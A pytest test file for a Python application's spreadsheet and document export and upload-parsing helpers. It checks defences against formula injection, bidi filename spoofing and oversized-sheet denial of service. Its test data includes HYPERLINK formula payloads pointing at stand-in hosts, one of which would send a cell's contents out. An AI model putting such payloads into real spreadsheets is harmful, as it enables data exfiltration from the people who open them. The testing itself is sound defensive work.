import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from dobry.core.documents import (
    TABLE_COLUMNS,
    csv_response,
    export_cell,
    sheet_title,
    table_rows,
    xlsx_workbook,
)
from dobry.core.numbers import exact_number, plain_number


def test_csv_keeps_typed_formulas_as_text_and_opens_in_excel():
    response = csv_response(
        "x.csv", ["title", "amount"], [['=HYPERLINK("http://evil")', 5], ["Скамейки", -3]]
    )
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert rows == [["title", "amount"], ['\'=HYPERLINK("http://evil")', "5"], ["Скамейки", "-3"]]
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'


# --- one cell helper for XLSX, CSV and DOCX -------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"])
def test_csv_text_starting_like_a_formula_gets_an_apostrophe(start):
    assert export_cell(f"{start}1+1", target="csv") == f"'{start}1+1"


def test_text_loses_the_characters_xml_forbids_in_every_target():
    for target in ("xlsx", "csv", "docx"):
        assert export_cell("Ив\x00а\x01н\x0b\x1f\ufffe\n\tов", target=target) == "Иван\n\tов"


def test_numbers_stay_numbers_in_xlsx_and_take_a_decimal_comma_in_semicolon_csv():
    assert export_cell(Decimal("1.50"), target="xlsx") == Decimal("1.50")
    assert export_cell(1.5, target="csv") == "1.5"
    assert export_cell(1.5, target="csv", decimal_comma=True) == "1,5"
    assert export_cell(Decimal("1.50"), target="csv", decimal_comma=True) == "1,5"
    assert export_cell(-3, target="csv") == "-3"  # a number, not a formula
    assert export_cell(None, target="xlsx") == ""


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (Decimal("3.00"), "3"),  # a target as the database keeps it
        (Decimal("2"), "2"),  # a value as counted
        (2, "2"),
        (2.0, "2"),
        (Decimal("4.50"), "4.5"),
        (Decimal("15.3"), "15.3"),
        (Decimal("0.00"), "0"),
        (Decimal("-0.00"), "0"),
        (Decimal("5E+3"), "5000"),  # never an exponent
        (Decimal("-1.10"), "-1.1"),
        (1e-7, "0.0000001"),
        (Decimal("123456789012.25"), "123456789012.25"),
    ],
)
def test_a_number_is_written_one_way_in_csv_whatever_its_scale(value, text):
    assert exact_number(value) == text
    assert export_cell(value, target="csv") == text
    assert export_cell(value, target="csv", decimal_comma=True) == text.replace(".", ",")
    assert export_cell(value, target="docx") == text


def test_a_column_of_numbers_of_several_scales_reads_one_way():
    response = csv_response(
        "figures.csv",
        ["value", "target"],
        [[Decimal("2"), Decimal("3.00")], [Decimal("12.5"), Decimal("12.50")], [7, None]],
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1:] == [["2", "3"], ["12.5", "12.5"], ["7", ""]]


def test_plain_numbers_are_rounded_to_hundredths_without_trailing_zeros():
    assert plain_number(Decimal("4.50")) == "4,5"
    assert plain_number(Decimal("2.005")) == "2"  # banker's rounding of the half cent
    assert plain_number(Decimal("1234.567")) == "1234,57"
    assert plain_number(None) == "0"


def test_times_are_written_on_the_citys_clock():
    moment = datetime(2027, 2, 28, 23, 0, tzinfo=UTC)  # 06:00 on 1 March in Krasnoyarsk
    assert export_cell(moment, target="xlsx") == datetime(2027, 3, 1, 6, 0)  # noqa: DTZ001
    assert export_cell(moment, target="csv") == "01.03.2027 06:00"
    assert export_cell(date(2027, 3, 1), target="docx") == "01.03.2027"
    with pytest.raises(ValueError, match="aware"):
        export_cell(datetime(2027, 3, 1, 6), target="csv")  # noqa: DTZ001


def test_xlsx_writes_a_typed_formula_as_a_string_cell_and_numbers_as_numbers():
    formula = '=HYPERLINK("http://x.example/?"&D2;"Имя")'
    content = xlsx_workbook(
        [("Лист: [1]?", ["Имя", "Часы", "Пришёл"], [[formula, Decimal("1.5"), date(2027, 3, 1)]])]
    )
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.title == "Лист 1"
    name, hours, day = sheet[2]
    assert (name.data_type, name.value) == ("s", formula)
    assert (hours.data_type, hours.value) == ("n", 1.5)
    assert day.value == datetime(2027, 3, 1)  # noqa: DTZ001
    assert day.number_format == "DD.MM.YYYY"
    assert sheet["A1"].font.bold


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Показатели", "Показатели"),
        ("Итоги: [2025] 1/2 * ? \\ кв.", "Итоги 2025 1 2 кв."),
        ("'Цитата'", "Цитата"),
        ("Доля информированного населения, %", "Доля информированного…"),
        ("Одно_очень_длинное_слово_без_пробелов_вообще", "Одно_очень_длинное_слово_без_п…"),
        ("history", "history (2)"),
        ("", "-"),
        ("\x00\x01", "-"),
    ],
)
def test_a_sheet_title_is_one_excel_accepts(title, expected):
    assert sheet_title(title) == expected
    assert len(sheet_title(title)) <= 31


def test_sheet_titles_that_repeat_are_numbered_whatever_the_case():
    assert sheet_title("Итоги", ["итоги"]) == "Итоги (2)"
    assert sheet_title("Итоги", ["итоги", "Итоги (2)"]) == "Итоги (3)"
    long = "Доля информированного населения, %"
    assert sheet_title(long, [sheet_title(long)]) == "Доля информированного… (2)"


def test_a_workbook_with_hostile_and_repeated_sheet_titles_opens_with_openpyxl():
    content = xlsx_workbook(
        [
            ("Итоги: 1/2", ["a"], [[1]]),
            ("итоги 1 2", ["a"], [[2]]),
            ("x" * 40, ["a"], [[3]]),
        ]
    )
    workbook = load_workbook(io.BytesIO(content))
    assert workbook.sheetnames == ["Итоги 1 2", "итоги 1 2 (2)", "x" * 30 + "…"]
    assert workbook["итоги 1 2 (2)"]["A2"].value == 2


def test_uploaded_tables_are_read_one_way_csv_in_either_encoding_and_xlsx():
    semicolons = "Email;Имя\na@example.org;Анна\n".encode("cp1251")
    assert table_rows(semicolons, "list.CSV", max_rows=10) == [
        ["Email", "Имя"],
        ["a@example.org", "Анна"],
    ]
    commas = "\ufeffEmail,Имя\nb@example.org,Борис\n".encode()
    assert table_rows(commas, "list.csv", max_rows=1) == [
        ["Email", "Имя"],
        ["b@example.org", "Борис"],
    ]
    assert len(table_rows(b"a\n1\n2\n3\n", "list.csv", max_rows=1)) == 2
    book = Workbook()
    book.active.append(["Email", None, 3])
    book.active.append(["c@example.org", "Вера", None])
    stream = io.BytesIO()
    book.save(stream)
    assert table_rows(stream.getvalue(), "list.xlsx", max_rows=5) == [
        ["Email", "", "3"],
        ["c@example.org", "Вера", ""],
    ]


@pytest.mark.parametrize(
    ("content", "name"), [(b"%PDF-1.4", "list.pdf"), (b"not a zip", "list.xlsx")]
)
def test_what_is_not_a_table_is_a_value_error(content, name):
    with pytest.raises(ValueError, match=r"."):
        table_rows(content, name, max_rows=10)


def test_uploaded_tables_lose_nul_controls_and_bidi_overrides_csv_and_xlsx():
    csv_content = "Имя,Заметка\nA\x00B,строка\tс табом\x1b\n".encode()
    assert table_rows(csv_content, "list.csv", max_rows=5) == [
        ["Имя", "Заметка"],
        ["AB", "строка\tс табом"],
    ]
    book = Workbook()
    book.active.append(["Имя"])
    book.active.append(["Анна\u202eгп.exe"])  # XML allows it; our texts do not
    stream = io.BytesIO()
    book.save(stream)
    assert table_rows(stream.getvalue(), "list.xlsx", max_rows=5) == [["Имя"], ["Аннагп.exe"]]


def test_a_sheet_claiming_a_huge_size_is_read_as_wide_as_its_cells():
    """Attacker's finding: one cell at XFD1048576 in a 5 KB file made every row of a
    statement 16,384 cells wide (two minutes of a worker, gigabytes of memory). The size
    the file claims is not believed; a row keeps `TABLE_COLUMNS` cells at most."""
    book = Workbook()
    book.active.append(["Дата", "Сумма"])
    book.active.append(["01.11.2026", 100])
    book.active["XFD1048576"] = "x"  # the sheet's size tag now says A1:XFD1048576
    book.active.cell(row=3, column=TABLE_COLUMNS, value="край")  # the last cell read
    book.active.cell(row=3, column=500, value="далеко")  # a typed cell past the limit
    stream = io.BytesIO()
    book.save(stream)
    rows = table_rows(stream.getvalue(), "statement.xlsx", max_rows=20_000)
    blank = [""] * (TABLE_COLUMNS - 2)
    assert rows[:2] == [["Дата", "Сумма", *blank], ["01.11.2026", "100", *blank]]
    assert len(rows) == 3  # the empty rows to the claimed end are not kept
    assert rows[2][-1] == "край"
    assert {len(row) for row in rows} == {TABLE_COLUMNS}
    assert "далеко" not in {cell for row in rows for cell in row}


def test_a_csv_is_read_no_further_than_asked_and_no_wider_than_the_limit():
    wide = ";".join(["x"] * 5000) + "\n"
    rows = table_rows((wide * 50).encode(), "list.csv", max_rows=3)
    assert len(rows) == 4
    assert {len(row) for row in rows} == {TABLE_COLUMNS}
